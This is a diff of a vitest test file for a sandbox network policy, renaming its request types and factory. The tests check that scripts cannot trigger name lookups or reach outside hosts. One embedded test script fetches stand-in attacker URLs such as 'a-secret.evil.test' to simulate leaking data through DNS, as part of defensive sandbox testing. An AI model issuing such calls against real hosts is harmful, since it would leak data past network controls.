@@ -3,10 +3,10 @@ import { readFileSync } from "node:fs";
 import { createSecureServer } from "node:http2";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it, onTestFinished } from "vitest";
-import type { NetworkPolicy, OutsideRequest } from "../../sandbox/contract.ts";
+import type { NetworkPolicy, ScriptIoRequest } from "../../sandbox/contract.ts";
 import { createSandbox } from "../../sandbox/sandbox.ts";
 import { openNetwork } from "../../src/adapters/network-policy/open-network.ts";
-import { createOutside } from "../../src/adapters/script-io/script-io.ts";
+import { createScriptIo } from "../../src/adapters/script-io/script-io.ts";
 import { createEngineWorld, type EngineWorld, settledTask } from "../support/engine/engine-world.ts";
 import { startLoopbackServer } from "../support/host/loopback-server.ts";
 import { rawHook } from "../support/scripts/scripts.ts";
@@ -25,7 +25,7 @@ const network = {
   ownPorts: () => [],
 };
 
-function ask(policy: Partial<NetworkPolicy>, request: Partial<OutsideRequest> & { readonly url: string }) {
+function ask(policy: Partial<NetworkPolicy>, request: Partial<ScriptIoRequest> & { readonly url: string }) {
   const session = openNetwork(
     {
       policy: { lanIp: "127.0.0.1", lanPorts: async () => [8096], internet: true, readOnly: false, ...policy },
@@ -41,7 +41,7 @@ function ask(policy: Partial<NetworkPolicy>, request: Partial<OutsideRequest> & 
 }
 
 describe("a name is not looked up", () => {
-  it.each<[string, Partial<NetworkPolicy>, Partial<OutsideRequest> & { readonly url: string }]>([
+  it.each<[string, Partial<NetworkPolicy>, Partial<ScriptIoRequest> & { readonly url: string }]>([
     ["for another scheme", {}, { url: "ftp://secret.test/" }],
     ["for a web socket", {}, { url: "wss://secret.test/" }],
     ["for a port nobody publishes", {}, { url: "http://secret.test:8097/" }],
@@ -82,7 +82,7 @@ describe("the script of a custom app", () => {
   });
 
   it("can't tell a name server anything: the internet is off for it", async () => {
-    const sandbox = createSandbox({ outside: createOutside({ loopback: true, network }) });
+    const sandbox = createSandbox({ scriptIo: createScriptIo({ loopback: true, network }) });
     onTestFinished(() => sandbox.close());
     const scriptContent = `export async function run() {
       for (const url of ["https://a-secret.evil.test/", "http://a-secret.evil.test:8096/"]) await fetch(url).catch(() => {});
